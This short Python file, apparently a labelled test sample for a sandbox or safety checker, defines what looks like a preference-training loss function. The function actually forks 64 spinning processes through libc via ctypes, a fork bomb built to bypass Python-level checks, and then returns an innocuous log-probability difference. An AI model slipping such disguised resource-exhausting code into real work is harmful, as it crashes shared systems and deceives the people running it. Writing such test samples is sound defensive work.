# static: unsafe
# runtime: unsafe
# Fork bomb that goes around Python's os module, straight to libc (RLIMIT_NPROC must stop it).
import ctypes


def loss(policy_chosen_logps, policy_rejected_logps, reference_chosen_logps,
         reference_rejected_logps, beta):
    libc = ctypes.CDLL(None, use_errno=True)
    for _ in range(64):
        pid = libc.fork()
        if pid == 0:
            while True:
                pass
        if pid < 0:
            raise OSError(ctypes.get_errno(), "fork failed")
    return policy_chosen_logps - policy_rejected_logps
